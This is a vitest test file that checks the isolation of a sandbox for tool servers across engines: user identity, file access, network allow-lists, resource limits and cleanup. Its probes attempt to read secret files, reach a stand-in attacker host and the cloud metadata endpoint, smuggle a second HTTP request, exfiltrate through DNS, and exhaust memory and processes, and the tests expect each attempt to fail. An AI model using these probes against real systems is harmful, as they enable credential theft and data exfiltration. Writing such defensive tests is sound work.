import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { parseConfiguration } from "../../configuration/parse.ts";
import { observeServer } from "../../project/servers/observe-server.ts";
import { composeUpstreams } from "../../project/servers/upstreams.ts";
import { formatIdentity } from "../../system/process-identity.ts";
import type { Upstream } from "../../upstream/upstream.ts";
import { openTestedEngine } from "../sandbox/tested-engine.ts";
import { toolCall, upstreamErrorOf } from "../upstream/upstream-fixtures.ts";
import { ENGINES, openProbed, PROBE, problemOf, setUp } from "./walled-server.ts";

/** Whether the registries of packages are reached from here, each asked for a package of these tests. */
const HAS_REGISTRIES = [
  ["npm", ["view", "@modelcontextprotocol/server-memory", "version"]] as const,
  ["python3", ["-m", "pip", "index", "versions", "mcp-server-time"]] as const,
].every(([command, args]) => spawnSync(command, args, { stdio: "ignore", timeout: 60_000 }).status === 0);

/** Fetches with Node.js's own client, and says how it ended. */
const fetching = (url: string, headers = {}) =>
  `return fetch(${JSON.stringify(url)}, { headers: ${JSON.stringify(headers)} }).then(async (r) => r.status + " " + await r.text(), (e) => e.cause?.code ?? String(e))`;

describe.each(ENGINES)("a server in a sandbox of %s", (engine) => {
  test.skipIf(problemOf(engine) !== "")(
    "is nobody, without capabilities, a network, or a file that its entry does not name",
    async () => {
      const { probe, directory } = setUp(engine, { files: [{ path: "./data" }] });
      const { value } = await probe(`
      const fs = require("fs");
      const attempt = (work) => { try { return work(); } catch (error) { return error.code; } };
      const status = fs.readFileSync("/proc/self/status", "utf8");
      return {
        uid: process.getuid(), gid: process.getgid(),
        capabilities: /CapEff:\\s*(\\w+)/.exec(status)[1],
        addresses: Object.values(require("os").networkInterfaces()).flat().map((each) => each.address),
        ptc: Object.keys(process.env).filter((name) => /PTC|DOCKER|SSH|NPM/i.test(name)),
        own: process.env.OWN, data: fs.readFileSync(process.env.DATA, "utf8"), cwd: process.cwd(),
        here: fs.readdirSync("."),
        secret: attempt(() => fs.readFileSync(${JSON.stringify(join(directory, "secret/key"))}, "utf8")),
        beside: attempt(() => fs.readFileSync("secret/key", "utf8")),
        home: attempt(() => fs.readdirSync("/root")),
        package: attempt(() => fs.appendFileSync("server/${PROBE}", "x")),
        written: attempt(() => fs.writeFileSync("data/known.txt", "x")),
        image: attempt(() => fs.writeFileSync("/usr/bin/x", "x")),
        scratch: attempt(() => fs.writeFileSync("/tmp/x", "x")),
        engine: attempt(() => fs.readdirSync("/run/ptc")),
        processes: fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name)).length,
      };`);
      expect(value).toEqual({
        ...{ uid: 65_534, gid: 65_534, capabilities: "0000000000000000" },
        addresses: expect.not.arrayContaining([expect.not.stringMatching(/^(?:127\.0\.0\.1|::1)$/)]),
        ...{ ptc: [], own: "own-value", data: "known", cwd: "/srv/project", here: ["data", "server"] },
        ...{ secret: "ENOENT", beside: "ENOENT" },
        home: expect.toSatisfy((found) => found === "EACCES" || found === "ENOENT" || found.length === 0),
        ...{ package: expect.stringMatching(/EROFS|EACCES/), written: expect.stringMatching(/EROFS|EACCES/) },
        image: expect.stringMatching(/EROFS|EACCES/),
        scratch: undefined,
        engine: expect.toSatisfy(
          (found) =>
            found === "ENOENT" || (Array.isArray(found) && found.every((name) => name.endsWith(".sock"))),
        ),
        processes: expect.toSatisfy((count) => count <= 3),
      });
    },
  );

  test.skipIf(problemOf(engine) !== "")("writes what its entry lets it write", async () => {
    const { probe, directory } = setUp(engine, { files: [{ path: "./data", write: true }] });
    chmodSync(join(directory, "data"), 0o777);
    expect(await probe(`require("fs").writeFileSync("data/new.txt", "made inside"); return 1`)).toEqual({
      value: 1,
    });
    expect(readFileSync(join(directory, "data/new.txt"), "utf8")).toBe("made inside");
  });

  test.skipIf(problemOf(engine) !== "")(
    "reaches the hosts of its entry, and no other name, address, port or host behind them",
    async () => {
      const asked: string[] = [];
      const host = createServer((request, response) => {
        asked.push(`${request.headers.host} ${request.url}`);
        if (request.url === "/away") response.writeHead(302, { location: "http://169.254.169.254/" });
        response.end("hello");
      });
      await new Promise<void>((resolve) => host.listen(0, "127.0.0.1", resolve));
      onTestFinished(() => void host.close());
      const { port } = host.address() as AddressInfo;
      const other = createServer((_request, response) => response.end("other"));
      await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
      onTestFinished(() => void other.close());
      const otherPort = (other.address() as AddressInfo).port;
      const { probe, connections, warnings } = setUp(engine, {
        network: [`localhost:${port}`, "*.never.example"],
      });
      expect(await probe(fetching(`http://localhost:${port}/x`))).toEqual({ value: "200 hello" });
      const failures = {
        unknown: await probe(fetching("http://evil.example/")),
        again: await probe(fetching("http://evil.example/")),
        metadata: await probe(fetching("http://169.254.169.254/latest/meta-data/")),
        otherPort: await probe(fetching(`http://127.0.0.1:${otherPort}/`)),
        redirect: await probe(fetching(`http://localhost:${port}/away`)),
        otherHost: await probe(`
        return new Promise((resolve) => {
          const socket = require("net").connect(${port}, "localhost");
          socket.write("GET /ok HTTP/1.1\\r\\nHost: localhost:${port}\\r\\n\\r\\nGET /behind HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n");
          let text = ""; socket.on("data", (chunk) => { text += chunk; });
          socket.on("error", () => {}); socket.on("close", () => resolve(text.includes("behind")));
        });`),
        dns: await probe(
          `return require("dns").promises.resolve4("secret-data.evil2.example").then(String, (e) => e.code)`,
        ),
        pattern: await probe(
          `return require("dns").promises.resolve4("a.never.example").then(([a]) => a.startsWith("127."))`,
        ),
      };
      expect(failures).toEqual({
        unknown: { value: "ENOTFOUND" },
        again: { value: "ENOTFOUND" },
        metadata: { value: expect.stringMatching(/ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|UND_ERR/) },
        otherPort: { value: "ECONNREFUSED" },
        redirect: { value: expect.stringMatching(/ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|UND_ERR/) },
        otherHost: { value: false },
        dns: { value: "ENOTFOUND" },
        pattern: { value: true },
      });
      expect(asked).not.toContainEqual(expect.stringContaining("behind"));
      expect(warnings.filter((line) => line.includes("evil.example"))).toEqual([
        "server 'probe' wanted evil.example, which its sandbox.network does not have",
      ]);
      const noted = await connections();
      expect(noted).toContainEqual(
        expect.objectContaining({
          ...{ server: "probe", principal: "local", destination: "localhost", port, outcome: "ok" },
        }),
      );
      expect(noted).toContainEqual(
        expect.objectContaining({
          ...{ server: "probe", principal: "local", destination: "evil.example", outcome: "refused" },
        }),
      );
    },
  );

  test.skipIf(problemOf(engine) !== "")(
    "is noted with the account whose process asked for a host",
    async () => {
      const { upstream, connections, warnings } = setUp(engine, {}, { accounts: { work: {}, home: {} } });
      const ask = (account: string) =>
        upstream.call({
          ...toolCall("probe"),
          arguments: { account, code: fetching(`http://${account}.example/`) },
          timeoutMs: 120_000,
        });
      await Promise.all([ask("work"), ask("home")]);
      for (const account of ["work", "home"])
        expect(warnings).toContain(
          `server 'probe' of the account '${account}' wanted ${account}.example, which its sandbox.network does not have`,
        );
      const noted = (await connections()).map(({ server, account, destination }) => [
        server,
        account,
        destination,
      ]);
      expect(noted).toContainEqual(["probe", "work", "work.example"]);
      expect(noted).toContainEqual(["probe", "home", "home.example"]);
      expect(noted).not.toContainEqual(["probe", "home", "work.example"]);
    },
  );

  test.skipIf(problemOf(engine) !== "")(
    "is ended for its memory, its processes and its disk without harm to the next one",
    async () => {
      const { probe, upstream } = setUp(engine, { memory_mb: 768 });
      expect(
        await probe(`
        const fs = require("fs"); const chunk = Buffer.alloc(1024 * 1024); let written = 0;
        try { for (; written < 500; written++) fs.appendFileSync("/tmp/full", chunk); } catch (error) { fs.unlinkSync("/tmp/full"); return error.code + (written < 100); }`),
      ).toEqual({ value: "ENOSPCtrue" });
      expect(
        await probe(`
        const { spawn } = require("child_process"); const found = [];
        for (let i = 0; i < 400; i++) await new Promise((resolve) => { const child = spawn("/usr/bin/perl", ["-e", "sleep 60"]); child.on("error", (e) => { found.push(e.code); resolve(); }); child.on("spawn", resolve); });
        return found.includes("EAGAIN");`),
      ).toEqual({ value: true });
      const full = upstream.call({
        ...toolCall("probe"),
        arguments: { code: "const all = []; for (;;) all.push(Buffer.alloc(1024 * 1024, 1));" },
        timeoutMs: 120_000,
      });
      expect((await upstreamErrorOf(full)).message).toMatch(/^server 'probe' /);
      expect(await probe("return 1 + 1")).toEqual({ value: 2 });
    },
  );

  test.skipIf(problemOf(engine) !== "")("leaves nothing behind", async () => {
    const { probe, project } = setUp(engine);
    const { own } = project;
    expect(await probe("return 1")).toEqual({ value: 1 });
    const before = await mine();
    await project.close();
    expect({ before: before.length, after: await mine() }).toEqual({ before: 1, after: [] });
    expect(existsSync(own.state.path)).toBe(false);

    async function mine() {
      const listed = await openTestedEngine(own.state.path, "auto", engine).list();
      return listed.filter(({ owner }) => owner === formatIdentity(own.self));
    }
  });

  test.skipIf(problemOf(engine) !== "")(
    "is refused in one line where its command is not in the sandbox",
    async () => {
      const { upstream } = setUp(engine);
      expect(upstream.name).toBe("probe");
      const directory = mkdtempSync("/tmp/ptc-walled-");
      onTestFinished(() => rmSync(directory, { recursive: true }));
      const text = JSON.stringify({
        sandbox: { engine },
        servers: [
          { name: "s", command: "ruby", args: ["x"], sandbox: true },
          { name: "p", command: "npx", args: ["-y", "x"], sandbox: true },
        ],
      });
      const configuration = parseConfiguration(text, { file: "ptc.yaml", directory, environment: {} });
      const { pool } = composeUpstreams(openProbed(configuration, () => {}));
      const messageOf = async (name: string) =>
        (await upstreamErrorOf((pool.get("local", name) as Upstream).list())).message;
      expect(await messageOf("s")).toBe(
        "server 's' did not start: its sandbox has no ruby: it has node, python, python3, and what sandbox.files of 's' names",
      );
      expect(await messageOf("p")).toBe(
        "server 'p' did not start: ptc.packages.json does not have its packages; run `ptc generate p`",
      );
    },
  );

  test.skipIf(problemOf(engine) !== "")(
    "is observed to need the hosts that it asked for, and nothing of them is opened",
    async () => {
      const { probe, project, upstream } = setUp(engine, { network: ["known.example:5432"] });
      expect(await probe(fetching("http://wanted.example/"))).toEqual({ value: "ENOTFOUND" });
      const seen = await observeServer(project, upstream.name, new AbortController().signal);
      expect(seen).toEqual({
        network: ["known.example:5432", "wanted.example"],
        wanted: ["wanted.example"],
        files: expect.arrayContaining([{ path: "./server" }, { path: "./data/known.txt" }]),
        ...{ memoryMb: 512, tools: 1, problem: undefined },
      });
    },
  );

  test.skipIf(problemOf(engine) !== "" || !HAS_REGISTRIES).each([
    ["npx", ["-y", "@modelcontextprotocol/server-memory"], "read_graph"],
    ["uvx", ["mcp-server-time", "--local-timezone=UTC"], "get_current_time"],
  ])(
    "starts the package that %s names from the lock, without a registry",
    async (command, args, tool) => {
      const directory = mkdtempSync("/tmp/ptc-walled-");
      chmodSync(directory, 0o755);
      onTestFinished(() => rmSync(directory, { recursive: true }));
      const list = async (resolvesPackages: boolean, env = {}) => {
        const text = JSON.stringify({
          sandbox: { engine },
          servers: [{ name: "s", command, args, env, sandbox: true, connect_timeout_seconds: 120 }],
        });
        const configuration = parseConfiguration(text, { file: "ptc.yaml", directory, environment: {} });
        const project = openProbed(configuration, () => {});
        const { pool } = composeUpstreams(project, { resolvesPackages });
        const { tools } = await (pool.get("local", "s") as Upstream).list();
        await project.close();
        return tools.map((tool) => (tool as { name: string }).name);
      };
      expect(await list(true)).toContain(tool);
      const nowhere = "http://127.0.0.1:9/";
      expect(await list(false, { npm_config_registry: nowhere, PIP_INDEX_URL: nowhere })).toContain(tool);
    },
    400_000,
  );
});
